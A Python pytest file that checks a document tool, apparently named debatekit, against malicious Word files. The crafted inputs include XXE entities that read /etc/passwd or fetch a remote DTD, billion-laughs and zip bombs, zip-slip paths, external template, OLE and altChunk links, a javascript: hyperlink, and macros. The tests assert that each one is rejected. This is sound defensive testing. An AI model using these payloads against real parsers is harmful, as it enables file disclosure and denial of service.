"""Word files that were made to do harm, wherever debatekit opens one: as a look, to inspect, as a source."""

from __future__ import annotations

import io
import os
import socket
import zipfile
from pathlib import Path
from typing import TYPE_CHECKING, Final

import pytest
from lxml import etree

from tests.accessibility.support import understated
from tests.commandline import run
from tests.hostile.support import answer, snapshot
from tests.samples import SMALLEST
from tests.word.letterheads import repacked, school_bytes

if TYPE_CHECKING:
    from collections.abc import Callable

DOCUMENT, STYLES, LINKS = "word/document.xml", "word/styles.xml", "word/_rels/document.xml.rels"
TYPES, ROOT = "[Content_Types].xml", "_rels/.rels"
RELATIONSHIPS: Final = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
LAUGHS: Final = b"".join(b'<!ENTITY l%d "%s">' % (level, b"&l%d;" % (level - 1) * 10) for level in range(1, 10))

WAYS = {
    "a look": ("build", "trees.yaml", "--only", "pro-brief", "--look", "evil.docx"),
    "to inspect": ("inspect", "evil.docx"),
    "a source": ("new", "Yards need trees", "--from", "evil.docx"),
}


def plain() -> bytes:
    return school_bytes("plain")


def changed(part: str, change: Callable[[bytes], bytes]) -> bytes:
    return repacked(plain(), lambda parts: {**parts, part: change(parts[part])})


def typed(part: str, declaration: bytes, encoding: str = "utf-8") -> Callable[[], bytes]:
    """Return a maker of a file with a document type declaration in a part, behind the XML declaration."""

    def change(blob: bytes) -> bytes:
        root = etree.tostring(etree.fromstring(blob), encoding="unicode")
        return f"<!DOCTYPE x [{declaration.decode()}]>{root}".encode(encoding)

    return lambda: changed(part, change)


def zipped(name: str, size: int) -> bytes:
    """Return a sound file with one more part of `size` bytes, all of them the same."""
    buffer = io.BytesIO(plain())
    with (
        zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as package,
        package.open(name, "w", force_zip64=size > 2**31) as entry,
    ):
        for _ in range(size // 1_000_000):
            entry.write(bytes(1_000_000))
    return buffer.getvalue()


def lying() -> bytes:
    """Return a file with a main part that unpacks to far more than the archive says of it."""
    return understated(changed(DOCUMENT, lambda xml: xml + b" " * 300_000_000), DOCUMENT, 1000)


def entries(number: int) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as package:
        for name in range(number):
            package.writestr(f"{name}.xml", b"")
    return buffer.getvalue()


def inside(text: bytes) -> bytes:
    """Return a file with something at the start of its text."""
    return changed(DOCUMENT, lambda xml: xml.replace(b"<w:body>", b"<w:body>" + text, 1))


def linked(kind: str, target: str, text: bytes = b"") -> bytes:
    """Return a file that is bound to something outside of it, with `text` that uses it as ``rIdEvil``."""
    link = f'<Relationship Id="rIdEvil" TargetMode="External" Type="{RELATIONSHIPS}{kind}" Target="{target}"/>'

    def change(parts: dict[str, bytes]) -> dict[str, bytes]:
        links = parts[LINKS].replace(b"</Relationships>", link.encode() + b"</Relationships>")
        return {**parts, LINKS: links, DOCUMENT: parts[DOCUMENT].replace(b"<w:body>", b"<w:body>" + text, 1)}

    return repacked(plain(), change)


TOO_LARGE, TYPED = "larger than", "has a document type declaration"
BOMBS: dict[str, tuple[Callable[[], bytes], str]] = {
    "300 MB of nothing": (lambda: zipped("word/media/x.bin", 300_000_000), TOO_LARGE),
    "more than it says": (lying, "is damaged"),
    "many parts": (lambda: entries(60_000), "more than 5,000 parts"),
    "entities without end": (typed(DOCUMENT, b'<!ENTITY l0 "ha">' + LAUGHS), TYPED),
    "deep XML": (lambda: inside(b"<w:sdt>" * 100_000), "is no sound XML"),
    "a million attributes": (
        lambda: inside(b"<w:p %s/>" % b" ".join(b'a%d=""' % number for number in range(1_000_000))),
        "is no sound XML",
    ),
    "a million elements": (lambda: inside(b"<w:p/>" * 1_000_000), "more text in it than can be checked"),
}
FAULTY: dict[str, tuple[Callable[[], bytes], str]] = {
    "a file of this computer": (typed(DOCUMENT, b'<!ENTITY e SYSTEM "file:///etc/passwd">'), TYPED),
    "an address": (typed(DOCUMENT, b'<!ENTITY % e SYSTEM "http://a.example/x.dtd"> %e;'), TYPED),
    "entities of the links": (typed(ROOT, b'<!ENTITY e "x">'), TYPED),
    "entities in UTF-16": (typed(DOCUMENT, b'<!ENTITY e "x">', "utf-16"), TYPED),
    "cut off": (lambda: plain()[:-500], "this is no Word document"),
    "cut off in a part": (lambda: changed(DOCUMENT, lambda xml: xml[:-500]), "is no sound XML"),
    "another file": (lambda: b"MZ" + bytes(5000), "this is no Word document"),
    "Word 97": (lambda: bytes.fromhex("D0CF11E0A1B11AE1") + bytes(600), "this is a file of Word 97 to 2003"),
    "a way out": (lambda: repacked(plain(), lambda parts: {**parts, "../../evil.xml": b"<x/>"}), "outside the file"),
    "a part twice": (lambda: repacked(plain(), lambda parts: {**parts, "WORD/document.xml": b"<x/>"}), "twice"),
}
ELSEWHERE = {
    "an attached template": ("attachedTemplate", "https://a.example/evil.dotm", b""),
    "a picture": (
        "image",
        "http://a.example/pixel.png",
        b'<w:p><w:r><w:t xml:space="preserve">Trees </w:t></w:r></w:p>',
    ),
    "an object": ("oleObject", "file://server/share/evil.xlsx", b""),
    "a frame": ("frame", "https://a.example/", b""),
    "a subdocument": ("subDocument", "../../secret.docx", b'<w:subDoc r:id="rIdEvil"/>'),
    "text of another kind": ("aFChunk", "http://a.example/x.html", b'<w:altChunk r:id="rIdEvil"/>'),
    "a script for a link": ("hyperlink", "javascript:alert(1)", b""),
}


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Return the current folder, a workspace with a motion, without a way to any other computer."""

    def refuse(*_: object) -> None:
        pytest.fail("something is fetched")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    monkeypatch.chdir(tmp_path)
    Path("debatekit.yaml").touch()
    Path("motions").mkdir()
    Path("trees.yaml").write_text(SMALLEST, encoding="utf-8")
    return tmp_path


@pytest.mark.parametrize("words", WAYS.values(), ids=WAYS)
@pytest.mark.parametrize(("make", "message"), FAULTY.values(), ids=FAULTY)
def test_a_faulty_file_is_told_and_left(
    folder: Path, make: Callable[[], bytes], message: str, words: tuple[str, ...]
) -> None:
    Path("evil.docx").write_bytes(make())
    before = snapshot(folder)
    result = run(*words)
    assert result.exit_code == 1
    assert "evil.docx" in result.output
    assert message in result.output
    assert snapshot(folder) == before


@pytest.mark.parametrize("part", [TYPES, STYLES, "word/theme/theme1.xml"])
def test_every_part_of_a_look_is_read_as_carefully(folder: Path, part: str) -> None:
    Path("evil.docx").write_bytes(typed(part, b'<!ENTITY e "x">')())
    result = run(*WAYS["a look"])
    assert result.exit_code == 1
    assert f"evil.docx: its part '{part}' has a document type declaration" in result.output
    assert not (folder / "output").exists()


@pytest.mark.parametrize("bomb", BOMBS)
def test_a_bomb_costs_little_time_and_memory(tmp_path: Path, bomb: str) -> None:
    make, message = BOMBS[bomb]
    (tmp_path / "trees.yaml").write_text(SMALLEST, encoding="utf-8")
    (tmp_path / "evil.docx").write_bytes(make())
    before = snapshot(tmp_path)
    for way, words in WAYS.items():
        code, text = answer(tmp_path, *words)
        assert code == 1, f"{way}: {text[-2000:]}"
        assert "evil.docx: " in text
        assert message in text or TOO_LARGE in text
        assert "Traceback" not in text
    assert snapshot(tmp_path) == before


@pytest.mark.skipif(os.name == "nt", reason="Windows has no such files")
@pytest.mark.parametrize("words", WAYS.values(), ids=WAYS)
@pytest.mark.parametrize("target", ["/dev/zero", "pipe", "evil.docx"])
def test_what_is_no_file_is_not_waited_for(folder: Path, target: str, words: tuple[str, ...]) -> None:
    os.mkfifo("pipe")
    Path("evil.docx").symlink_to(target)
    result = run(*words)
    assert result.exit_code in {1, 2}
    assert "Traceback" not in result.output
    assert not Path("output").exists()


@pytest.mark.parametrize("words", WAYS.values(), ids=WAYS)
@pytest.mark.parametrize(("kind", "target", "text"), ELSEWHERE.values(), ids=ELSEWHERE)
def test_what_stands_elsewhere_stays_there(
    folder: Path, kind: str, target: str, text: bytes, words: tuple[str, ...]
) -> None:
    Path("evil.docx").write_bytes(linked(kind, target, text))
    result = run(*words)
    assert isinstance(result.exception, SystemExit | None)
    assert target not in result.output or words[0] == "inspect"
    built = list(folder.rglob("output/**/*.docx"))
    assert len(built) == 2 * (words[0] == "build")
    for path in built:
        with zipfile.ZipFile(path) as package:
            for name in package.namelist():
                content = package.read(name)
                assert target.encode() not in content
                assert b"altChunk" not in content
                assert b"subDoc" not in content


def test_macros_are_not_taken_over(folder: Path) -> None:
    macros = repacked(plain(), lambda parts: {**parts, "word/vbaProject.bin": b"x"})
    Path("evil.docx").write_bytes(macros)
    result = run(*WAYS["a look"])
    assert result.exit_code == 1
    assert "evil.docx: it holds macros, which are not taken over" in result.output
    assert not (folder / "output").exists()
